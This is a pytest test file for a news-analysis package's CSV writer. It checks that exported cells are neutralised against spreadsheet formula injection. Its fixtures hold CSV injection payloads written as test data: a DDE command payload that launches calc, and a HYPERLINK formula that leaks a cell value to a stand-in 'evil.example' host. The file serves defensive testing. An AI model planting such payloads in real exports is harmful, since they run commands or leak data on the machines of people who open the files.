"""One spreadsheet-safe CSV writer for every CSV the package writes (analysis.csvio)."""

from __future__ import annotations

import io
import subprocess
import sys

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis import csvio
from analysis.__main__ import main
from analysis.claims.export import claims_to_csv_text, export_claims
from analysis.paths import PROJECT_ROOT
from analysis.pipeline.aggregates import aggregate_run
from analysis.pipeline.runner import run_corpus
from analysis.pipeline.tables import read_table_csv

BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
    ("+972 5", "'+972 5"),
    ("-3 قتلى", "'-3 قتلى"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("'quoted", "''quoted"),  # doubled, so that reading back gives the text as it was
    ("أكثر من 200", "أكثر من 200"),
    ("a=b", "a=b"),
    ("", ""),
    (-3.5, -3.5),
    (None, None),
])
def test_neutralise_cell(value, expected):
    assert csvio.neutralise_cell(value) == expected
    if isinstance(value, str):
        assert csvio.restore_cell(csvio.neutralise_cell(value)) == value


@pytest.mark.parametrize(("values", "kinds", "line"), [
    (["قال", "-5", -5.0, None, True], ["str", "str", "float", "str", "bool"], "قال,'-5,-5,,true\n"),
    (["a\rb"], None, '"a\rb"\n'),  # a lone carriage return is quoted, the row stays whole
    (["\r=1"], None, "\"'\r=1\"\n"),
    (['say "x", then'], None, '"say ""x"", then"\n'),
    ([2.5, 200.0, 1e20, 7], None, "2.5,200,1e+20,7\n"),
    ([12], ["str"], "12\n"),
])
def test_csv_line(values, kinds, line):
    assert csvio.csv_line(values, kinds) == line


_CELL = st.text(st.one_of(st.sampled_from(list("=+-@'\t\r\n,\" ")), st.characters(codec="utf-8")), max_size=12)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(_CELL, _CELL, st.one_of(st.none(), st.floats(allow_nan=False, allow_infinity=False,
                                                                      width=32))), min_size=1, max_size=8))
def test_round_trip_through_pandas_keeps_rows_and_values(rows):
    frame = pd.DataFrame(rows, columns=["a", "b", "v"])
    text = csvio.frame_to_csv_text(frame, {"a": "str", "b": "str", "v": "float"})
    assert text.startswith(csvio.BOM)
    plain = pd.read_csv(io.StringIO(text[1:]), dtype=str, keep_default_na=False)
    assert len(plain) == len(frame)  # no row split by \r or \n
    for col in ("a", "b"):  # what a spreadsheet sees never starts with a formula character
        assert not plain[col].str.startswith(csvio.FORMULA_STARTS).any()
    back = csvio.read_csv(io.BytesIO(text.encode("utf-8")))
    assert back["a"].tolist() == frame["a"].tolist() and back["b"].tolist() == frame["b"].tolist()
    assert [None if v == "" else float(v) for v in back["v"]] == [None if pd.isna(v) else v for v in frame["v"]]


def test_claims_export_with_carriage_return_cell_keeps_its_rows(tmp_path):
    frame = pd.DataFrame({"quantity_text": ["\r=cmd|' /C calc'!A0", "200"], "value_low": [1.0, 200.0]})
    paths = export_claims(frame, "t", directory=tmp_path)
    raw = paths["csv"].read_bytes()
    assert raw.startswith(BOM)
    lines = raw.decode("utf-8-sig").split("\n")
    assert not any(line.startswith("=") for line in lines)
    back = pd.read_csv(paths["csv"], dtype=str, keep_default_na=False)
    assert len(back) == 2 and back["quantity_text"][0] == "'\r=cmd|' /C calc'!A0"
    assert claims_to_csv_text(frame) == raw.decode("utf-8")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """A run over one article whose title and text start with formula characters."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "in").mkdir()
    (root / "in" / "evil.txt").write_text(
        '---\ntitle: \'=HYPERLINK("http://evil.example/?leak="&A1,"click")\'\nsource: "@outlet"\n'
        "published: 2018-03-01\n---\n"
        "-قالت الوزارة إن 12 مدنياً قتلوا في القصف.\nوأضافت أن نحو 40 شخصاً أصيبوا.\n", encoding="utf-8")
    run_corpus([root / "in"], root / "run", progress=False)
    return root


def test_run_tables_have_bom_and_neutralised_text(hostile_run):
    run = hostile_run / "run"
    for name in ("articles", "claims", "entities", "quotes", "keywords", "errors"):
        assert (run / f"{name}.csv").read_bytes().startswith(BOM), name
    articles_raw = (run / "articles.csv").read_text(encoding="utf-8-sig")
    assert ',"\'=HYPERLINK(' in articles_raw and ",'@outlet," in articles_raw  # quoted: it holds commas
    plain = pd.read_csv(run / "articles.csv", dtype=str, keep_default_na=False)
    assert plain["title"][0].startswith("'=") and len(plain) == 1
    # the package's own reader gives the values back as they were (and so does the Parquet file)
    ours = read_table_csv(run / "articles.csv")
    assert ours["title"][0].startswith('=HYPERLINK("http://evil.example')
    assert ours["source"][0] == "@outlet"


def test_aggregated_tables_have_bom_and_neutralised_text(hostile_run, tmp_path):
    aggregate_run(hostile_run / "run", tmp_path / "agg")
    for path in (tmp_path / "agg").glob("*.csv"):
        raw = path.read_bytes()
        assert raw.startswith(BOM), path.name
    by_month = (tmp_path / "agg" / "articles_by_outlet_month.csv").read_text(encoding="utf-8-sig")
    assert "'@outlet,2018-03" in by_month


def test_claims_csv_command_is_spreadsheet_safe(tmp_path):
    (tmp_path / "a.txt").write_text("-قالت الوزارة إن 12 مدنياً قتلوا في القصف.\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "analysis", "claims", str(tmp_path / "a.txt"), "--csv"],
                          capture_output=True, cwd=PROJECT_ROOT, timeout=120)
    assert proc.returncode == 0, proc.stderr.decode()
    assert proc.stdout.startswith(BOM)
    back = pd.read_csv(io.BytesIO(proc.stdout), dtype=str, keep_default_na=False)
    assert len(back) == 1 and back["value_low"][0] == "12"
    assert back["sentence"][0].startswith("'-قالت")


def test_main_claims_csv_in_process(tmp_path, capsys):
    (tmp_path / "a.txt").write_text("قتل 5 أشخاص.\n", encoding="utf-8")
    assert main(["claims", str(tmp_path / "a.txt"), "--csv"]) == 0
    assert capsys.readouterr().out.startswith(csvio.BOM)
